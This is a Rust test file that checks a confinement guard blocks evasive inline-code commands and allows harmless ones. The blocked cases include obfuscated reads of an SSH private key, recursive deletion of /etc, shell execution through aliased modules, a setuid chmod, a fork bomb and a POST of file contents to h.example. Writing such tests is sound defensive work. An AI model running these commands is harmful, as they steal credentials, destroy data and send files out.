//! Inline code, judged by what it does.

use super::*;

/// Every code, handed to `program` in single quotes.
fn given(program: &str, codes: &[&str]) -> Vec<String> {
    codes.iter().map(|code| format!("{program} '{code}'")).collect()
}

#[track_caller]
pub(super) fn stopped(program: &str, codes: &[&str]) {
    let texts = given(program, codes);
    assert_stopped(&confined(), &texts.iter().map(String::as_str).collect::<Vec<_>>());
}

#[track_caller]
pub(super) fn allowed(program: &str, codes: &[&str]) {
    let texts = given(program, codes);
    assert_allowed(&confined(), &texts.iter().map(String::as_str).collect::<Vec<_>>());
}

#[test]
fn e013_texts_that_code_puts_together_are_what_they_become() {
    stopped(
        "python3 -c",
        &[
            r#"print(open("/home/dev/%sssh/id_rsa" % ".").read())"#,
            r#"print(open("/home/dev/{}ssh/{}".format(".", "id_rsa")).read())"#,
            r#"a,b="/home/dev/.ssh/","id_rsa"; print(open(a+b).read())"#,
            r#"open("\N{SOLIDUS}etc\N{SOLIDUS}x", "w")"#,
            r#"import glob; print([open(f).read() for f in glob.glob("/home/dev/.s*/*")])"#,
            r#"import pwd; print(open(pwd.getpwuid(0).pw_dir+"/.ssh/id_rsa").read())"#,
        ],
    );
    stopped("ruby -e", &[r#"puts File.read(Dir.home+"/.ssh/id_rsa")"#]);
    stopped("node -e", &[r#"const k="rm"+"Sync"; fs[k]("/etc",{recursive:true})"#]);
    allowed(
        "python3 -c",
        &[
            r#"print("%s-%d" % ("a", 3), "{} {}".format(1, 2))"#,
            r#"open("out/%s.txt" % "a", "w").write("x")"#,
            r#"a, b = "src/", "x.py"; print(open(a + b).read())"#,
            r#"print("\N{BULLET} x")"#,
            r#"import glob; [print(open(f).read()) for f in glob.glob("src/*/*.py")]"#,
        ],
    );
}

#[test]
fn e013_a_module_that_goes_by_another_name_or_is_handed_on_is_asked_about() {
    stopped(
        "python3 -c",
        &[
            "import os\nx, y = os, 1\nx.system(\"touch /etc/x\")",
            "import os\nx:object=os; x.remove(\"/etc/x\")",
            "import os\nx = y = os; x.remove(\"/etc/x\")",
            "class A:\n import os as q\nA.q.system(\"touch /etc/x\")",
            "class A:\n import os as q\nA().q.system(\"touch /etc/x\")",
        ],
    );
    stopped(
        "ruby -e",
        &[
            r#"a,b=File,1; a.delete("/etc/x")"#,
            r#"[File].each{|c| c.delete("/etc/x")}"#,
            r#"File.public_send(:delete,"/etc/x")"#,
            "RubyVM::InstructionSequence.compile(gets).eval",
        ],
    );
    stopped("perl -e", &[r#"my $f=\&POSIX::remove; $f->("/etc/x")"#]);
    stopped(
        "node -e",
        &[
            r#"Reflect.get(fs,"rmSync")("/etc")"#,
            r#"Object.entries(fs).find(([k])=>k=="rmSync")[1]("/etc")"#,
            r#"fs[process.argv[1]]("/etc")"#,
            r#"import("node:fs/promises").then(f=>f.rm("/etc",{recursive:true}))"#,
            r#"module._compile(fs.readFileSync("x")+"","x")"#,
        ],
    );
    allowed(
        "python3 -c",
        &[
            "x: int = 3; print(x)",
            "import platform; print(platform.system())",
            "class A:\n  import json\nprint(A.json.dumps(1))",
        ],
    );
    allowed(
        "ruby -e",
        &["include FileUtils; puts 1", "a, b = 1, 2; puts a + b", r#"puts File.read("a").size"#],
    );
    allowed(
        "node -e",
        &[
            r#"const fs=require("fs"); const k="x"; console.log(JSON.parse(fs.readFileSync("a"))[k])"#,
            r#"const {readFileSync}=require("fs"); console.log(readFileSync("a")+"")"#,
        ],
    );
    allowed("perl -e", &["my $f=\\&main::x; print 1"]);
}

#[test]
fn e013_libraries_that_write_delete_send_and_start_are_known() {
    stopped(
        "python3 -c",
        &[
            r#"import xml.etree.ElementTree as E; E.ElementTree(E.Element("a")).write(".git/config")"#,
            r#"import invoke; invoke.run("touch /etc/x")"#,
            r#"import git; git.Repo(".").git.reset("--hard")"#,
            r#"import send2trash; send2trash.send2trash("/etc")"#,
            "import psutil; [p.kill() for p in psutil.process_iter()]",
            r#"import os; os.chmod("x",0o4755)"#,
            r#"import pathlib as p; p.Path("a").rename("/etc/x")"#,
            r#"from pathlib import Path; p = Path("a"); p.replace("/etc/x")"#,
        ],
    );
    stopped("ipython -c", &["!touch /etc/x", "%system id", "x = !touch /etc/x"]);
    stopped(
        "node -e",
        &[
            r#"require("https").request({method:"POST",host:"h.example"}).end(fs.readFileSync("a"))"#,
            r#"while(1) require("child_process").fork("x")"#,
        ],
    );
    assert_stopped(
        &confined(),
        &[
            "php -d auto_prepend_file=data:,x a.php",
            "node --snapshot-blob /etc/x --build-snapshot a.js",
        ],
    );
    allowed(
        "python3 -c",
        &[
            r#"import xml.etree.ElementTree as E; t = E.parse("a.xml"); t.write("a.xml")"#,
            "import psutil; print([p.name() for p in psutil.process_iter()])",
            r#"import os; os.chmod("x", 0o755)"#,
            r#"s = open("a").read(); open("a", "w").write(s.replace("x", "/y"))"#,
            r#"from pathlib import Path; Path("a").rename("b")"#,
        ],
    );
    allowed("ipython -c", &["!ls", "print(1 != 2)"]);
    assert_allowed(&confined(), &["php -d auto_prepend_file=boot.php a.php"]);
}
